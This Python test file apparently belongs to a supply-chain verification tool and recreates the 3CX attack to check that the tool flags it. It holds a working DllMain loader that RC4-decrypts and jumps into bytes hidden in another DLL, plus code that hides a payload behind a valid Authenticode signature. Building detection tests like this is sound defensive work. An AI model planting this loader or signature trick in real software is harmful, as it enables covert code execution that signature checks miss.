#!/usr/bin/env python3
"""The supply-chain attack on 3CX of March 2023, played again with real FFmpeg source: docs/3cx.md tells the story.

usage: threecx.py PLUMB [PART-OF-A-NAME]
       threecx.py --build FOLDER    leave the product, its clean twin and the sources there, to look at

A desktop program shaped like Electron: resources/app.asar, a ffmpeg.dll made from a slice of FFmpeg by mingw-w64, and a signed d3dcompiler_47.dll. In
the attacked one ffmpeg.dll has a loader in DllMain, and the other library has a payload in its certificate table, behind the signature, which still
verifies. Nothing here is ever run, and the payload is random bytes.

Needs the source archive of FFmpeg: from the machine's package mirror, or as an earlier run left it in PLUMBLINE_TEST_CACHE (default:
the system's folder for temporary files); without it every case is skipped.
"""
import atexit
import concurrent.futures
import functools
import hashlib
import json
import os
import pathlib
import random
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile

from plumb_test import Skip, case, main

CACHE = pathlib.Path(os.environ.get("PLUMBLINE_TEST_CACHE", pathlib.Path(tempfile.gettempdir()) / "plumbline-test-cache"))
ARCHIVE = "ffmpeg_5.1.9.orig.tar.xz"
ARCHIVE_SHA256 = "d9b593bb2ba93d4b50f74177e0cdcd41747e708596367deed0c30348a71dd176"
COMPILER, STRIP, SYMBOLS = ("x86_64-w64-mingw32-" + tool for tool in ("gcc", "strip", "nm"))
# Without the start-up files and the static parts of the C library: they are the compiler's, whose source is another package.
FLAGS = ("-O2", "-D__USE_MINGW_ANSI_STDIO=0", "-mno-stack-arg-probe")
LINK = ("-shared", "-nostartfiles", "-nodefaultlibs", "-Wl,--disable-runtime-pseudo-reloc")
LIBRARIES = ("-lmsvcrt", "-lkernel32")
UNITS = ("adler32", "avstring", "base64", "blowfish", "bprint", "camellia", "cast5", "crc", "des", "dict", "error", "hash",
         "hmac", "intmath", "log", "log2_tab", "lzo", "md5", "mem", "murmur3", "rc4", "reverse",
         "ripemd", "sha", "sha512", "tea", "time", "tree", "twofish", "xtea")
# What configure would have found; the part of the source that a build makes.
MATH = ("ATANF", "ATAN2F", "CBRT", "CBRTF", "COPYSIGN", "COSF", "ERF", "EXP2", "EXP2F", "EXPF", "HYPOT", "ISFINITE", "ISINF", "ISNAN",
        "LDEXPF", "LLRINT", "LLRINTF", "LOG2", "LOG2F", "LOG10F", "LRINT", "LRINTF", "POWF", "RINT", "ROUND", "ROUNDF", "SINF",
        "TRUNC", "TRUNCF", "MIPSFPU", "INLINE_ASM")
CONFIG = """#ifndef PRODUCT_CONFIG_H
#define PRODUCT_CONFIG_H
#define FFMPEG_CONFIGURATION "--target-os=mingw32 --enable-shared"
#define FFMPEG_LICENSE "LGPL version 2.1 or later"
#define AV_HAVE_BIGENDIAN 0
#define AV_HAVE_FAST_UNALIGNED 1
#define HAVE_BIGENDIAN 0
#define HAVE_FAST_UNALIGNED 1
#define HAVE_MALLOC_H 1
#define HAVE_ALIGNED_MALLOC 1
#define HAVE_AVX512 0
#define HAVE_AVX 0
#define HAVE_THREADS 0
#define CONFIG_SMALL 0
#define CONFIG_HARDCODED_TABLES 1
#define CONFIG_SHARED 1
#define CONFIG_MEMORY_POISONING 0
#define ARCH_X86 1
#define EXTERN_PREFIX ""
#define EXTERN_ASM
#define av_restrict restrict
#define snprintf _snprintf
#define vsnprintf _vsnprintf
""" + "".join(f"#define HAVE_{name} {int(name not in ('MIPSFPU', 'INLINE_ASM'))}\n" for name in MATH) + "#endif\n"

# The shape of the loader that was in ffmpeg.dll of 3CXDesktopApp 18.12.407, put down anew from the published analyses.
LOADER = r"""
#include <windows.h>

static const unsigned char begin_mark[4] = {0xfe, 0xed, 0xfa, 0xce};

static void decipher(unsigned char *p, DWORD n)
{
    static const char key[] = "3jB(2bsG#@c7";
    unsigned char s[256], t;
    unsigned i, j = 0;
    for (i = 0; i < 256; i++)
        s[i] = (unsigned char)i;
    for (i = 0; i < 256; i++) {
        j = (j + s[i] + (unsigned char)key[i % 12]) & 255;
        t = s[i], s[i] = s[j], s[j] = t;
    }
    for (i = j = 0; n-- > 0; p++) {
        i = (i + 1) & 255;
        j = (j + s[i]) & 255;
        t = s[i], s[i] = s[j], s[j] = t;
        *p ^= s[(s[i] + s[j]) & 255];
    }
}

static void next_stage(HMODULE self)
{
    wchar_t path[MAX_PATH];
    DWORD n = GetModuleFileNameW(self, path, MAX_PATH), size, done, old;
    while (n > 0 && path[n - 1] != L'\\')
        n--;
    lstrcpyW(path + n, L"d3dcompiler_47.dll");
    HANDLE file = CreateFileW(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    if (file == INVALID_HANDLE_VALUE)
        return;
    size = GetFileSize(file, NULL);
    unsigned char *p = VirtualAlloc(NULL, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (p != NULL && ReadFile(file, p, size, &done, NULL)) {
        for (DWORD i = 0; i + 8 < done; i++) {
            if (*(const DWORD *)(p + i) != *(const DWORD *)begin_mark)
                continue;
            decipher(p + i + 8, done - i - 8);
            if (VirtualProtect(p, size, PAGE_EXECUTE_READWRITE, &old))
                ((void (*)(void))(p + i + 8))();
            break;
        }
    }
    CloseHandle(file);
}

BOOL WINAPI DllMain(HINSTANCE self, DWORD reason, LPVOID reserved)
{
    if (reason == DLL_PROCESS_ATTACH)
        next_stage(self);
    return TRUE;
}
"""
COMPILER_C = r"""
#define snprintf _snprintf
#include <windows.h>
#include <stdio.h>

static const char *const profiles[] = {"vs_4_0", "ps_4_0", "gs_4_0", "vs_5_0", "ps_5_0", "cs_5_0"};
static const unsigned versions[] = {0x0400fffe, 0x0400ffff, 0x0400fffd, 0x0500fffe, 0x0500ffff, 0x05004353, 3, 9, 27, 81};

__declspec(dllexport) int D3DCompileProfile(const char *name, unsigned *version, char *message, size_t size)
{
    for (unsigned i = 0; i < sizeof profiles / sizeof profiles[0]; i++) {
        if (lstrcmpA(name, profiles[i]) != 0)
            continue;
        *version = versions[i];
        snprintf(message, size, "compiling for shader profile %s", profiles[i]);
        return 1;
    }
    snprintf(message, size, "there is no shader profile called %s", name);
    return 0;
}
"""
APP = {
    "package.json": '{"name": "desktop-app", "version": "18.12.407", "main": "main.js"}\n',
    "main.js": "'use strict';\nconst { app, BrowserWindow } = require('electron');\n"
               "app.whenReady().then(() => new BrowserWindow({ width: 900, height: 700 }).loadFile('index.html'));\n",
    "index.html": "<!doctype html>\n<title>Desktop</title>\n<p>Calls and meetings.</p>\n",
}


def run(*command, cwd=None):
    try:
        subprocess.run([str(c) for c in command], cwd=cwd, check=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    except FileNotFoundError:
        raise Skip(f"no {command[0]}") from None
    except subprocess.CalledProcessError as e:
        raise AssertionError(f"{command[0]}: {e.stdout.decode(errors='replace')[-2000:]}") from None


def archive():
    """The source archive, fetched once through the machine's package sources."""
    path = CACHE / ARCHIVE
    if path.exists() and hashlib.sha256(path.read_bytes()).hexdigest() == ARCHIVE_SHA256:
        return path
    CACHE.mkdir(parents=True, exist_ok=True)
    listed = subprocess.run(["apt-get", "--print-uris", "download", "libavutil57"], capture_output=True, check=False)
    uri = listed.stdout.decode().partition("'")[2].partition("'")[0]
    if not uri:
        raise Skip("no package mirror, and no FFmpeg source in the cache")
    done = subprocess.run(["/usr/lib/apt/apt-helper", "download-file", uri.rpartition("/")[0] + "/" + ARCHIVE, path,
                           "SHA256:" + ARCHIVE_SHA256], capture_output=True, check=False)
    if done.returncode != 0:
        raise Skip("no FFmpeg source: the mirror does not give it")
    return path


def asar(files):
    """An app.asar, as @electron/asar writes it: four sizes, a JSON directory, the files end to end."""
    tree, body = {}, b""
    for name, text in files.items():
        data = text.encode()
        tree[name] = {"size": len(data), "offset": str(len(body))}
        body += data
    head = json.dumps({"files": tree}, separators=(",", ":")).encode()
    padded = head + b"\0" * (-len(head) % 4)
    return struct.pack("<IIII", 4, len(padded) + 8, len(padded) + 4, len(head)) + padded + body


def sign(folder, plain, signed):
    key, certificate = folder / "key.pem", folder / "cert.pem"
    if not key.exists():
        run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", certificate, "-days", "3650",
            "-subj", "/CN=Example Graphics Corporation")
    run("osslsigncode", "sign", "-certs", certificate, "-key", key, "-in", plain, "-out", signed)


def with_slack(data, payload):
    """The payload behind the signature, inside the certificate table; the digest covers neither. Returns data and the place."""
    data = bytearray(data)
    at, = struct.unpack_from("<I", data, 60)
    head = at + 24 + 112 + 8 * 4
    start, size = struct.unpack_from("<II", data, head)
    assert start + size == len(data) and len(payload) % 8 == 0
    struct.pack_into("<I", data, head + 4, size + len(payload))
    struct.pack_into("<I", data, start, struct.unpack_from("<I", data, start)[0] + len(payload))
    return bytes(data) + payload, start + size


def compile_ffmpeg(folder, tree, made):
    """Objects of the slice; in parallel, since this is most of the time."""
    flags = [*FLAGS, "-std=c11", "-D_ISOC11_SOURCE", "-DHAVE_AV_CONFIG_H", "-DBUILDING_avutil", "-I" + str(made.relative_to(tree)), "-I.",
             "-include", "config.h"]

    def one(unit):
        run(COMPILER, *flags, "-c", f"libavutil/{unit}.c", "-o", folder / f"{unit}.o", cwd=tree)
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        list(pool.map(one, UNITS))
    return [folder / f"{unit}.o" for unit in UNITS]


def build(base):
    """clean/, attacked/, and the sources: ffmpeg/, shader/, app/. Returns the places of what was planted."""
    base = pathlib.Path(base)
    objects, made = base / "objects", base / "ffmpeg/build"
    for folder in (objects, made / "libavutil", base / "shader", base / "app"):
        folder.mkdir(parents=True)
    with tarfile.open(archive()) as tar:
        for member in tar:
            name = member.name.partition("/")[2]
            if not member.isfile() or not name.startswith(("libavutil/", "compat/")):
                continue
            target = base / "ffmpeg" / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(tar.extractfile(member).read())
    for name in ("config.h", "config_components.h", "libavutil/avconfig.h"):
        (made / name).write_text(CONFIG)
    (made / "libavutil/ffversion.h").write_text('#define FFMPEG_VERSION "5.1.9"\n')
    (base / "shader/shader.c").write_text(COMPILER_C)
    (base / "shader/Makefile").write_text("all: d3dcompiler_47.dll\nd3dcompiler_47.dll: shader.c\n\t$(CC) -shared -o $@ shader.c\n")
    (objects / "loader.c").write_text(LOADER)
    for name, text in APP.items():
        (base / "app" / name).write_text(text)
    parts = compile_ffmpeg(objects, base / "ffmpeg", made)
    run(COMPILER, *FLAGS, "-c", "loader.c", "-o", "loader.o", cwd=objects)
    for name, more in (("clean", ["-Wl,--entry=0"]), ("attacked", ["-Wl,--entry=DllMain", objects / "loader.o"])):
        (base / name / "resources").mkdir(parents=True)
        (base / name / "resources/app.asar").write_bytes(asar(APP))
        whole = objects / (name + ".dll")
        run(COMPILER, *LINK, "-Wl,--export-all-symbols", "-o", whole, *parts, *more, *LIBRARIES)
        run(STRIP, "-o", base / name / "ffmpeg.dll", whole)
    run(COMPILER, *FLAGS, *LINK, "-s", "-Wl,--entry=0", "-o", objects / "plain.dll", "shader.c", *LIBRARIES, cwd=base / "shader")
    sign(objects, objects / "plain.dll", base / "clean/d3dcompiler_47.dll")
    payload = b"\xfe\xed\xfa\xce" * 2 + random.Random(407).randbytes(16384)
    signed, at = with_slack((base / "clean/d3dcompiler_47.dll").read_bytes(), payload)
    (base / "attacked/d3dcompiler_47.dll").write_bytes(signed)
    loader = (base / "attacked/ffmpeg.dll").read_bytes()
    loader = (base / "attacked/ffmpeg.dll").read_bytes()
    place = offset_of(loader, address_of(objects / "attacked.dll", "next_stage"))
    return {"slack": (at, len(payload)), "loader": place, "key": loader.index(b"3jB(2bsG#@c7")}


def address_of(path, name):
    listed = subprocess.run([SYMBOLS, path], capture_output=True, check=True).stdout.decode()
    return next(int(line.split()[0], 16) for line in listed.splitlines() if line.split()[-1] == name)


def offset_of(data, address):
    """Where in the file of a PE32+ image an address stands."""
    at, = struct.unpack_from("<I", data, 60)
    sections, optional = struct.unpack_from("<H", data, at + 6)[0], struct.unpack_from("<H", data, at + 20)[0]
    address -= struct.unpack_from("<Q", data, at + 24 + 24)[0]
    for i in range(sections):
        size, start, _, offset = struct.unpack_from("<IIII", data, at + 24 + optional + 40 * i + 8)
        if start <= address < start + size:
            return offset + address - start
    raise ValueError("the address is in no section")


@functools.cache
def product():
    base = pathlib.Path(tempfile.mkdtemp(prefix="plumb-3cx-"))
    atexit.register(shutil.rmtree, base, True)
    return base, build(base)


def sources_of(base):
    return [word for folder in ("ffmpeg", "shader", "app") for word in ("--source", base / folder)]


def check(t, name, expect=None):
    base, _ = product()
    return t.check(base / name, *sources_of(base), expect=expect)


@case
def the_clean_product_passes_with_every_byte_accounted_for(t):
    report = check(t, "clean", expect=0)
    assert report.verdict("sourced") == "holds", t.summary(report)


@case
def the_payload_behind_the_signature_is_found_to_the_byte(t):
    _, planted = product()
    report = check(t, "attacked", expect=1)
    found = [(f["offset"], f["length"]) for f in report.errors("d3dcompiler_47.dll") if f["tag"] == "sig.appended-data"]
    assert found == [planted["slack"]], t.summary(report)


@case
def the_loader_is_found_at_its_first_byte_and_its_imports_are_named(t):
    _, planted = product()
    report = check(t, "attacked", expect=1)
    found = [f for f in report.findings("code.unaccounted-function", "ffmpeg.dll") if f["offset"] == planted["loader"]]
    assert len(found) == 1, t.summary(report)
    base, _ = product()
    _, said, _ = t.raw("check", base / "attacked", *sources_of(base), "-v", "--offline", "--progress=none")
    for name in (b"CreateFileW", b"VirtualAlloc"):
        assert name + b"  <- import not in source" in said, said.decode()[-3000:]
    key = [c for c in report.file("ffmpeg.dll")["evidence"] if c["offset"] <= planted["key"] < c["offset"] + c["length"]]
    assert key[0]["class"] == "unaccounted", key


@case
def the_attack_is_a_violation_of_level_3(t):
    report = check(t, "attacked", expect=1)
    assert report.verdict("sourced") == "broken"
    assert report.json["level"]["violation"] == 3, report.json["level"]


@case
def both_signatures_verify_so_that_no_signature_would_have_told(t):
    base, _ = product()
    for name in ("clean", "attacked"):
        done = subprocess.run(["osslsigncode", "verify", "-CAfile", base / "objects/cert.pem", base / name / "d3dcompiler_47.dll"],
                              capture_output=True, check=False)
        said = (done.stdout + done.stderr).decode(errors="replace")
        assert done.returncode == 0 and "Signature verification: ok" in said, said


@case
def what_was_left_alone_is_accounted_for_in_both(t):
    for name in ("clean", "attacked"):
        report = check(t, name)
        for f in report.json["files"]:
            if "app.asar" in f["path"]:
                assert f["bytes"]["unaccounted"] == 0 and f["bytes"]["opaque"] == 0, f["path"]


if __name__ == "__main__":
    if sys.argv[1] == "--build":
        pathlib.Path(sys.argv[2]).mkdir(parents=True)
        print(build(sys.argv[2]))
    else:
        main()
